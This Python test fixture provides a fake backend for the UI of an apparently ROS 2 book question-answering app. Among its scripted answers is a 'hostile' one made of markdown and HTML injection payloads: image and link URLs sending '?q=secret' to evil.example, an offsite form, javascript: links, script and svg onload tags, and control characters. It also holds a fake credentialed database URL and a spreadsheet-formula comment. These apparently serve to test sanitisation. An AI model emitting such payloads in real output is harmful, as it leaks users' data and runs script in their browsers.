"""A container for the UI: scripted answers, a report with every kind of row, nothing behind it."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Iterable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

from backend.content_ports import DayCount, Gap, NotedAnswer, Window
from backend.domain import (
    Answer,
    AnswerEvent,
    Check,
    Chunk,
    CircuitChange,
    Citation,
    DocumentRecord,
    DoneEvent,
    Hit,
    IndexInfo,
    IngestJob,
    JobState,
    Mode,
    Principal,
    Question,
    Retrieved,
    SourcesEvent,
    Status,
    TokenEvent,
    UnreadableFile,
    Usage,
)
from backend.errors import NotFound, UpstreamTimeout
from backend.services.diagnostics import Diagnostics
from backend.services.insights_report import InsightsReport, make_report
from backend.services.readiness import Probe
from backend.settings import load

ADMIN_TOKEN = "test-token-not-real"
WHEN = datetime(2026, 3, 1, 12, tzinfo=UTC)

CITATIONS = (
    Citation(
        1,
        "ROS 2 Fundamentals",
        ("ROS 2 Fundamentals", "Nodes and Topics", "Publishing"),
        "https://book.example/ros2/fundamentals#publishing",
        "ros2/fundamentals.md",
        "A publisher sends messages to a named topic.\n\nAny number of subscribers may listen <b>.",
        0.91,
    ),
    Citation(
        2,
        "Digital Twins",
        ("Digital Twins", "Gazebo"),
        "/read/digital-twins/gazebo#physics",
        "digital-twins/gazebo.md",
        "Gazebo steps the physics engine at a fixed rate.",
        0.74,
    ),
)
ANSWER = """\
A node publishes on a **topic**, and every subscriber of that topic gets the message [1][2].

1. Create the publisher once, when the node starts.
2. Publish from a timer, at a fixed rate [2].

```python
publisher = node.create_publisher(String, "chatter", 10)
scores[1] = publisher.publish(String(data="<b>hello</b>"))
```

| Part | Rate |
|---|---|
| Physics | 1,000 Hz |
| Camera | 30 Hz |

Use `create_timer` for the rate.
"""
ASKED = (
    "What is a node?", "What is a topic?", "How do nodes talk?", "Which battery lasts longest?",
    "Which battery lasts long?",
)  # fmt: skip
URDU = "ایک نوڈ پیغام کو ایک `topic` پر شائع کرتا ہے [1]۔\n\n- پہلا نکتہ\n- دوسرا نکتہ\n"
HOSTILE = """\
Look ![x](https://evil.example/a.png?q=secret) and <img src="https://evil.example/b.png">
<form action="https://evil.example/"><input name="q"><button>go</button></form>
[click](javascript:alert(1)) <script>alert(1)</script> ![r][r] <svg onload=alert(1)></svg>
![d](data:image/svg+xml;base64,PHN2Zz4=) <https://evil.example/d.png> www.evil.example
[read on](https://evil.example/?q=secret) and [here](../logout) \x1b[31m\u202e

[r]: https://evil.example/c.png
"""


class FakeAnswering:
    """Streams what the question asks for; ``slow`` never ends, ``fail`` breaks off."""

    def __init__(self, pause_s: float = 0.0) -> None:
        self.pause_s = pause_s
        self.questions: list[Question] = []
        self.principals: list[Principal] = []
        self.cut = 0

    async def answer(
        self, question: Question, principal: Principal
    ) -> AsyncGenerator[AnswerEvent, None]:
        self.questions.append(question)
        self.principals.append(principal)
        word = question.text.split()[0]
        refused = word == "unknown"
        citations = () if word == "hostile" else CITATIONS
        yield SourcesEvent(citations)
        text = {
            "hostile": HOSTILE,
            "urdu": URDU,
            "unknown": "I could not find this in the book.",
        }.get(word, ANSWER)
        try:
            for piece in text.splitlines(keepends=True):
                yield TokenEvent(piece)
                await asyncio.sleep(self.pause_s)
                if word == "slow":
                    await asyncio.sleep(3600)
                if word == "fail":
                    raise UpstreamTimeout("openai", "The model gave no answer within 20 s.")
                if word == "bug":
                    raise RuntimeError("postgresql://user:password@db/x")
        except (asyncio.CancelledError, GeneratorExit):
            self.cut += 1
            raise
        mode = Mode.REFUSED if refused else Mode.EXTRACTIVE
        generated = word not in ("unknown", "extractive")
        yield DoneEvent(
            Answer(
                text,
                Mode.GENERATED if generated else mode,
                citations,
                "session",
                "message",
                degraded="The model is away: quoted instead." if word == "extractive" else None,
                usage=Usage(900, 304) if generated else Usage(),
                timings_ms={"embed": 41.0, "search": 12.3, "generate": 1180.0, "total": 1240.0},
            )
        )


class FakeDialogue:
    def __init__(self, events: AsyncGenerator[AnswerEvent, None]) -> None:
        self.events = events


class FakeDialogues:
    """Opens what :class:`FakeAnswering` answers."""

    def __init__(self, answering: FakeAnswering) -> None:
        self._answering = answering

    async def open(self, question: Question, asker: Principal) -> FakeDialogue:
        return FakeDialogue(self._answering.answer(question, asker))


class FakeInsights:
    """Keeps ratings; knows no other answer than ``message``."""

    def __init__(self) -> None:
        self.rated: list[tuple[str, str, str]] = []

    async def rate(self, message_id: str, rating: str, comment: str = "") -> None:
        if message_id != "message":
            raise NotFound("There is no answer with this message_id.")
        self.rated.append((message_id, rating, comment))

    async def report(self, days: int = 30) -> InsightsReport:
        asked = [
            NotedAnswer(
                str(n), WHEN, question, "refused" if n > 2 else "generated", n == 1, 0.4,
                900.0 + n, 800, Gap.REFUSED if n > 2 else None,
                rating="down" if n == 0 else None, comment="=SUM(1)" * (n == 0), rated_at=WHEN,
            )
            for n, question in enumerate(ASKED)
        ]  # fmt: skip
        day = DayCount("2026-03-01", 5, 2, 1, 4_000, 902.0, 904.0, 0.0021)
        window = Window((day,), tuple(asked), tuple(asked[3:]), tuple(asked[:1]), 0, 1)
        return make_report(window, since=WHEN, now=WHEN, retention_days=90)


class FakeIngestion:
    """A book of four chapters; ``step`` lets a job that runs make one more step."""

    def __init__(self) -> None:
        self.current: IngestJob | None = None
        self.last: IngestJob | None = None
        self.deleted: list[str] = []
        self.started: list[tuple[tuple[str, ...], bool]] = []
        self.cancelled = False
        self.pause_s = 0.05
        self.steps = 4

    async def start_anew(self, *document_ids: str, everything: bool = False) -> IngestJob:
        self.started.append((document_ids, everything))
        if self.current is None:
            self.cancelled = False
            self.current = IngestJob("job", JobState.RUNNING, documents_total=self.steps)
        return self.current

    async def events(self, job_id: str) -> AsyncGenerator[IngestJob, None]:
        while (job := self.current) is not None:
            yield job
            await asyncio.sleep(self.pause_s)
            if self.current is not job:
                continue  # another page follows it as well
            done = job.documents + 1
            if self.cancelled or done >= self.steps:
                state = JobState.CANCELLED if self.cancelled else JobState.DONE
                errors = (UnreadableFile("bad.md", "It is not valid UTF-8."),)
                self.last = replace(job, state=state, documents=done, errors=errors)
                self.current = None
            else:
                self.current = replace(job, documents=done)
        assert self.last is not None
        yield self.last

    async def cancel(self, job_id: str) -> IngestJob:
        self.cancelled = True
        assert self.current is not None
        return replace(self.current, state=JobState.CANCELLED)

    async def delete(self, document_id: str) -> int:
        if document_id not in {record.id for record in await self.documents()}:
            raise NotFound("There is no document with this id in the index.")
        self.deleted.append(document_id)
        return 3

    titles = ("Introduction", "Chapter 1: ROS 2 Fundamentals", "Digital Twins", "Isaac Sim")

    async def documents(self) -> list[DocumentRecord]:
        return [
            DocumentRecord(f"{n}.md", title, f"{n}", "0", 3, WHEN)
            for n, title in enumerate(self.titles)
            if DocumentRecord(f"{n}.md", title, f"{n}", "0", 3, WHEN).id not in self.deleted
        ]


class FakeReading:
    """Every document is one chunk."""

    def __init__(self, ingestion: FakeIngestion) -> None:
        self._ingestion = ingestion

    async def chunks(self, document_id: str) -> tuple[DocumentRecord, list[Chunk]]:
        for record in await self._ingestion.documents():
            if record.id == document_id:
                return record, [chunk_of(record.title)]
        raise NotFound("There is no document with this id in the index.")


class FakeRetrieval:
    """Finds one chunk, and leaves out another."""

    async def search(self, question: Question, *, limit: int | None = None) -> Retrieved:
        hits = [Hit(chunk_of(title), 0.9, 0.8, 7.5) for title in ("Nodes", "Twins")]
        return Retrieved((hits[0],), (hits[0],), (hits[1],), confidence=0.8, threshold=0.5)


def chunk_of(title: str) -> Chunk:
    text = "A publisher sends messages.\n\nAny number <b> may listen."
    return Chunk(
        title, f"{title}.md", title, (title,), "", title, 0, 0, 1, 3, text, text, text, "0"
    )


def _probes() -> Iterable[Probe]:
    async def down() -> Check:
        return Check("qdrant", Status.DOWN, "Nobody answers there.", "See that the server is up.")

    async def fine() -> Check:
        return Check("openai", Status.OK)

    return (Probe("qdrant", down), Probe("openai", fine))


class FakeContainer:
    """What the UI needs, with settings from an environment given as a dictionary."""

    def __init__(self, environ: dict[str, str] | None = None, *, pause_s: float = 0.0) -> None:
        loaded = load(environ or {})
        self.settings = loaded.settings.model_copy(update={"docs_path": "book"})
        self.answering = FakeAnswering(pause_s)
        self.dialogues = FakeDialogues(self.answering)
        self.insights = FakeInsights()
        self.ingestion = FakeIngestion()
        self.reading = FakeReading(self.ingestion)
        self.retrieval = FakeRetrieval()
        self.diagnostics = Diagnostics(loaded, tuple(_probes()), now=lambda: WHEN)
        self.stopping = asyncio.Event()
        self._loaded = loaded

    def diagnose(self, *probes: Probe, fresh_s: float = 5.0) -> None:
        """Let these probes make the report."""
        self.diagnostics = Diagnostics(self._loaded, probes, now=lambda: WHEN, fresh_s=fresh_s)

    def circuits(self) -> dict[str, dict[str, Any]]:
        closed = {
            "state": "closed",
            "failure_count": 0,
            "failure_threshold": 5,
            "retry_after_s": None,
            "last_failure_at": None,
            "last_error_kind": None,
        }
        failed = {"last_failure_at": "2026-03-01T11:58:02.120Z", "last_error_kind": "refused"}
        opened = {**closed, **failed, "state": "open", "failure_count": 5, "retry_after_s": 21.4}
        return {"openai": closed, "qdrant": opened, "database": closed}

    async def index_info(self) -> IndexInfo:
        return IndexInfo("fake", "book", "model_8_v1", 12, 8)

    def circuit_changes(self) -> list[CircuitChange]:
        return [CircuitChange(WHEN, "qdrant", "closed", "open")]

    async def ready(self) -> None:
        return
